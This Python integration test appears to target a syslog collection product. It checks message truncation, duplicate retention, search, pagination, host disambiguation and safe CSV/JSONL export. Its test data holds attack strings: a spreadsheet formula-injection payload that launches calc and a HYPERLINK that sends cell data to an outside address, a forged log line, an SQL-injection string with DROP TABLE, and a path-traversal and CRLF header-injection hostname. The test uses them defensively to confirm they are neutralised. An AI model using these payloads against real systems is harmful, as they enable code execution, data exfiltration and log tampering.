"""What the cases of the corpus tell in words: messages over the limit are cut and the stream goes on, equal ones are all kept,
lines and datagrams without a priority stay whole and in order, pages hold while more comes, a search is literal and knows Japanese, two senders that
claim one host are told apart, and nothing in a message adds a line, a formula or a header to what is exported."""

import csv
import io
import urllib.parse

from azk import TLS, Product, run, wait_for

FORMULA = b"<13>Mar 10 11:48:00 =cmd|'/c calc'!A1 +app: =HYPERLINK(\"http://203.0.113.66/?\"&A1,\"x\") -1+1 @SUM(A1)"
TWO_LINES = (b"<13>Mar 10 11:48:01 h1 forged: login failed\n"
             b"<13>Mar 10 11:48:02 fw1 sshd[1]: Accepted password for root from 203.0.113.66")
QUOTES = "O'Brien said \"x\" \\ '' \\' ; DROP TABLE messages; -- $1 %s E'\\x41'"
HOST = b"<13>Mar 10 11:48:03 ../../x\"\r\nSet-Cookie:a=b named: after a host"
TEXTS = ["disk 100% full", "disk 1000 full", "a_b", "axb", "C:\\tmp", "監視対象サーバの応答がありません", QUOTES]
SEARCHES = [  # what is typed, between quotes; the texts it finds
    ("100%", [TEXTS[0]]), ("a_b", [TEXTS[2]]), ("C:\\\\tmp", [TEXTS[4]]), ("応答", [TEXTS[5]]), ("がありません", [TEXTS[5]]),
    ("サーバ", [TEXTS[5]]), (QUOTES.replace("\\", "\\\\").replace('"', '\\"'), [QUOTES]),
]
LIMIT = 64 << 10  # base/limits.h
BIG = b"<166>Mar 10 11:41:02 h1 big: " + b"w " * (1 << 19) + b"REQUEST FOR QUOTATION tail"


def entries(box, query):
    return box.api("GET", f"/logs?limit=200&order=asc&query={urllib.parse.quote(query)}")["entries"]


def over_the_limit(box):
    around = [b"<13>1 - h1 size - - - before", BIG, b"<13>1 - h1 size - - - after"]
    ways = {"127.0.8.1": lambda s: box.send_tcp(around, source=s), "127.0.8.2": lambda s: box.send_tcp(around, True, source=s),
            "127.0.8.3": lambda s: box.send_tls(around, False, source=s), "127.0.8.4": lambda s: box.send_tls(around, source=s)}
    sent = sum(send(source) for source, send in ways.items())
    box.wait_for_stored(sent)
    for source in ways:
        got = box.psql(f"""select hostname, azekura.marks(id) @> '{{truncated}}', octet_length(azekura.raw(id)) <= {LIMIT}
                             from azekura.logs where source = '{source}' order by id""")
        assert got == [("h1", "f", "t"), ("h1", "t", "t"), ("h1", "f", "t")], (source, got)
    return sent


def equal_ones(box):
    same = [b"<13>Mar 10 11:42:00 h1 cmd: ls"] * 10
    sent = box.send_udp(same) + box.send_tcp(same)
    return sent


def without_priority(box):
    lines = [b"<30>Mar 10 11:59:01 rtr1 system,info script output:", b"line two of output", b"line three",
             b"<30>Mar 10 11:59:02 rtr1 system,info done"]
    parts = [b'<30>Mar 10 11:59:04 gw-udm ubios[1]: config {"a":1,', b'{"b":2,"c":[3,4]}']
    return box.send_tcp(lines, source="127.0.18.1") + box.send_udp(parts, source="127.0.20.1"), lines, parts


def claimed_hosts(box):
    for last in (2, 3):
        box.send_udp([b"<13>Mar 10 11:47:00 twin app: by %d" % last], source=f"127.0.52.{last}")
    return 2


def pages_while_more_comes(box):
    """A page at a time, newest first, with messages of the same device time coming in between."""
    def more(n):
        return box.send_udp([b"<13>Mar 10 11:47:30 h1 paged: row"] * n, source="127.0.68.1")

    sent = more(300)
    wait_for(lambda: len(everything(box)) == sent, "they are found")
    wanted = {e["id"] for e in everything(box)}
    seen, cursor = [], ""
    while cursor is not None:
        page = box.api("GET", f"/logs?limit=50&query=app_name:paged{cursor}")
        seen += [e["id"] for e in page["entries"]]
        sent += more(20)
        wait_for(lambda: len(everything(box)) == sent, "more has come in")
        cursor = f"&cursor={page['next']}" if page["next"] else None
    assert len(seen) == len(set(seen)) == 300 and set(seen) == wanted, (len(seen), len(set(seen)))
    return sent


def everything(box):
    return box.api("GET", "/logs?limit=1000&query=app_name:paged")["entries"]


def main():
    with Product(TLS) as box:
        sent = over_the_limit(box) + equal_ones(box)
        n, lines, parts = without_priority(box)
        sent += n + claimed_hosts(box)
        sent += box.send_udp([f"<13>1 - h text - - - {t}".encode() for t in TEXTS], source="127.0.64.1")
        sent += box.send_udp([FORMULA, TWO_LINES, HOST], source="127.0.69.1")
        sent += pages_while_more_comes(box)
        box.assert_ledger(sent=sent)

        assert len(entries(box, "app_name:cmd")) == 20, "equal messages are all kept"
        for source, raws in (("127.0.18.1", lines), ("127.0.20.1", parts)):
            got = entries(box, f"source:{source}")
            assert [raw(box, e) for e in got] == raws, got
            assert all(e["hostname"] not in ("line", "{") for e in got), got
        assert [e["message"] for e in entries(box, "hostname:twin source:127.0.52.2")] == ["by 2"]
        assert [e["message"] for e in entries(box, "hostname:twin source:127.0.52.3")] == ["by 3"]
        assert len(entries(box, "hostname:twin")) == 2
        for typed, wanted in SEARCHES:
            got = [e["message"] for e in entries(box, f'source:127.0.64.1 "{typed}"')]
            assert got == wanted, (typed, got)
        exports(box)


def raw(box, entry):
    return box.api("GET", f"/logs/{entry['id']}/raw")


def exports(box):
    found = entries(box, "source:127.0.69.1")
    assert sorted(raw(box, e) for e in found) == sorted([FORMULA, TWO_LINES, HOST])
    for entry in found:
        reply = box.request("GET", f"/api/v1/logs/{entry['id']}/raw", headers={"Authorization": f"Bearer {box.token()}"})
        assert reply.headers["Set-Cookie"] is None and reply.headers["X-Content-Type-Options"] == "nosniff", reply.headers
        assert ".." not in reply.headers["Content-Disposition"], reply.headers
    query = urllib.parse.quote("source:127.0.69.1")
    text = box.api("GET", f"/logs/export?format=csv&query={query}").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 4 and not [c for row in rows for c in row if c[:1] in tuple("=+-@\t\r\n")], rows
    assert box.api("GET", f"/logs/export?format=jsonl&query={query}").count(b"\n") == 3
    assert "Accepted password" not in box.log_text("receiver"), "a message is told in the log of the box"


if __name__ == "__main__":
    run(main)
